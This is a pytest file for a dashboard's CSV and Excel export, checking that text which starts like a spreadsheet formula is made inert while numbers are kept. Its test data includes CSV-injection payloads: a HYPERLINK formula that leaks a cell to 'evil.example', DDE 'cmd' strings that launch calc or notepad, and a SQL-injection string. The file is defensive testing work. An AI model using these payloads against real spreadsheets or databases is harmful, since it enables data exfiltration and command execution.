"""CSV downloads are safe to open in a spreadsheet: text that starts like a formula is made inert.

Decision for numbers: a cell whose whole text is a plain number ("-3", "+4.5", "-1e3", "45%",
"+6281234567890") stays as it is; anything else starting with =, +, -, @, tab or carriage return
gets an apostrophe in front. A phone number written with spaces ("+62 812 3456 7890") is not a
plain number, so it is prefixed too (Excel would otherwise try to evaluate it).
"""

from __future__ import annotations

import csv
import io
import math
import re

import pandas as pd
import pytest

from okrdash.export import neutralise, to_csv_bytes

BOM = b"\xef\xbb\xbf"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|\.\d+)([eE][+-]?\d+)?%?")

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x")',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C notepad'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "=",
    "-",
    "+62 812 3456 7890",
    "-3 apples",
    "=1+1\n=2+2",
    "-3\n=HYPERLINK(\"http://x\")",
    "+1)",
    "=-3",
]
PLAIN_NUMBERS = ["-3", "+4.5", "-1e3", "-0.5", "+6281234567890", "-1,234,567.89", "-2,5", "-10%", "+.5", "-3 "]
ORDINARY_TEXT = ["Sales", "a=b", "Grow revenue +20%", "Rina@contoh.co.id", "", " =1+1", "'=already quoted",
                 "Tingkatkan kepuasan pelanggan", "x'); DROP TABLE kpis; --"]


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


@pytest.mark.parametrize("value", FORMULAS)
def test_text_starting_like_a_formula_gets_an_apostrophe(value):
    assert value.startswith(TRIGGERS)
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN_NUMBERS)
def test_plain_numbers_stay_as_they_are(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ORDINARY_TEXT)
def test_ordinary_text_is_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-3, -3.5, 0, 1e20, None, True, float("nan")])
def test_values_that_are_not_text_are_unchanged(value):
    result = neutralise(value)
    assert result is value or (isinstance(value, float) and math.isnan(value) and math.isnan(result))


def test_csv_download_is_inert_keeps_numbers_and_has_a_bom():
    frame = pd.DataFrame({
        "title": ['=HYPERLINK("http://x")', "Grow revenue", "@SUM(A1)", "-3", "+62 812 3456 7890"],
        "value": [-3.5, 2.0, -0.25, 1e6, float("nan")],
        "count": [-3, 0, 7, 12, 1],
        "owner": pd.array(["+cmd|' /C calc'!A0", None, "Rina", "\t=1", "@Rina"], dtype="string"),
        "status": pd.Categorical(["On Track", "=1+1", "At Risk", "Off Track", "On Track"]),
        "mixed": ["-7", 5, "=A1", None, "-2,5"],
    })
    original = frame.copy()
    data = to_csv_bytes(frame)
    pd.testing.assert_frame_equal(frame, original)  # the caller's frame is left alone
    assert data.startswith(BOM) and not data[len(BOM):].startswith(BOM)
    rows = read_back(data)
    assert rows[0] == list(frame.columns)
    assert len(rows) == len(frame) + 1
    body = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert [r["title"] for r in body] == ["'=HYPERLINK(\"http://x\")", "Grow revenue", "'@SUM(A1)", "-3",
                                          "'+62 812 3456 7890"]
    assert [r["value"] for r in body] == ["-3.5", "2.0", "-0.25", "1000000.0", ""]
    assert [r["count"] for r in body] == ["-3", "0", "7", "12", "1"]
    assert [r["owner"] for r in body] == ["'+cmd|' /C calc'!A0", "", "Rina", "'\t=1", "'@Rina"]
    assert [r["status"] for r in body] == ["On Track", "'=1+1", "At Risk", "Off Track", "On Track"]
    assert [r["mixed"] for r in body] == ["-7", "5", "'=A1", "", "-2,5"]


def test_no_cell_of_a_download_starts_like_a_formula():
    texts = [t for t in FORMULAS + PLAIN_NUMBERS + ORDINARY_TEXT if "\r" not in t]  # CR: see the next test
    frame = pd.DataFrame({"text": texts, "number": [-(i + 0.5) for i in range(len(texts))]})
    for row in read_back(to_csv_bytes(frame))[1:]:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or PLAIN_NUMBER.fullmatch(cell.strip()), repr(cell)


@pytest.mark.parametrize("value", ["\r=1+1", "ok\r=1+1", "note\r@SUM(A1)\r+2", "\r"])
def test_a_carriage_return_in_a_cell_does_not_start_a_new_row(value):
    """A spreadsheet reads a bare CR as the end of a row: a cell holding one must be quoted, or the
    text after the CR lands, un-neutralised, at the start of a new row."""
    frame = pd.DataFrame({"note": [value], "value": [-1.5]})
    rows = read_back(to_csv_bytes(frame))
    assert len(rows) == 2, rows
    assert rows[1] == [neutralise(value), "-1.5"]


def test_unicode_text_round_trips_in_utf8():
    frame = pd.DataFrame({"catatan": ["Dua kesepakatan besar mundur ke tahun depan", "Straße", "日本語", "💥"]})
    rows = read_back(to_csv_bytes(frame))
    assert [r[0] for r in rows[1:]] == list(frame["catatan"])


def test_indonesian_csv_uses_semicolons_decimal_commas_and_day_first_dates():
    import datetime as dt

    frame = pd.DataFrame({
        "Hasil kunci": ["Naikkan NPS", "=1+1"],
        "Kemajuan": [0.6703296703296703, 1234.5],
        "Jumlah": [3, 4],
        "Tanggal": [dt.date(2026, 5, 31), None],
        "Waktu": pd.to_datetime(["2026-05-31", "2026-06-01"]),
    })
    data = to_csv_bytes(frame, "id")
    assert data.startswith(BOM)
    rows = list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline=""), delimiter=";"))
    assert rows == [["Hasil kunci", "Kemajuan", "Jumlah", "Tanggal", "Waktu"],
                    ["Naikkan NPS", "0,67033", "3", "31/05/2026", "31/05/2026"],
                    ["'=1+1", "1234,5", "4", "", "01/06/2026"]]
    english = read_back(to_csv_bytes(frame, "en"))
    assert english[1] == ["Naikkan NPS", "0.67033", "3", "2026-05-31", "2026-05-31"]


def test_workbook_keeps_numbers_dates_and_text_and_runs_no_formula():
    import datetime as dt

    from openpyxl import load_workbook

    from okrdash.export import to_xlsx_bytes

    frame = pd.DataFrame({
        "Key result": ['=HYPERLINK("http://x")', "Grow revenue to Rp2.400.000.000", "@SUM(A1)"],
        "Progress": [0.6703296703296703, 1.0, float("nan")],
        "Count": [1, 2, 3],
        "Date": [dt.date(2026, 5, 31), dt.date(2026, 6, 1), None],
    })
    book = load_workbook(io.BytesIO(to_xlsx_bytes(frame, "key results")))
    sheet = book.active
    assert sheet.title == "key results"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Key result", "Progress", "Count", "Date"]
    assert rows[1][0] == '=HYPERLINK("http://x")' and sheet["A2"].data_type == "s"
    assert sheet["A4"].data_type == "s"
    assert rows[1][1] == pytest.approx(0.6703296703296703) and rows[3][1] is None
    assert rows[2][2] == 2 and isinstance(rows[2][2], int)
    assert rows[1][3].date() == dt.date(2026, 5, 31) and sheet["D2"].is_date and rows[3][3] is None
    assert sheet.column_dimensions["A"].width == len("Grow revenue to Rp2.400.000.000") + 2
    assert sheet.column_dimensions["C"].width == 8


def test_a_pages_download_says_what_the_page_says_percents_rounded_and_no_minus_zero():
    """Issue 24.7: progress as the page's percent (0% format in Excel, "74%" in the CSV), no float
    noise, no -0, in both conventions."""
    from openpyxl import load_workbook

    from okrdash.export import as_page_shows, to_xlsx_bytes

    frame = pd.DataFrame({"Key result": ["Uptime", "Sales"], "Progress": [0.736264, -0.0004],
                          "Change": [0.9000000000000057, -0.0000001], "Target": [99.9, 20.0]})
    shown = as_page_shows(frame, shares=("Progress",))
    assert list(shown["Progress"]) == [0.74, 0.0] and list(shown["Change"]) == [0.9, 0.0]
    assert math.copysign(1, shown["Progress"][1]) == 1 and math.copysign(1, shown["Change"][1]) == 1
    assert to_csv_bytes(shown, "id", shares=("Progress",)).decode("utf-8-sig").splitlines() == [
        "Key result;Progress;Change;Target", "Uptime;74%;0,9;99,9", "Sales;0%;0,0;20,0"]
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(shown, "krs", shares=("Progress",)))).active
    progress = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.number_format) for c in progress] == [(0.74, "0%"), (0, "0%")]
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [0.9, 0]
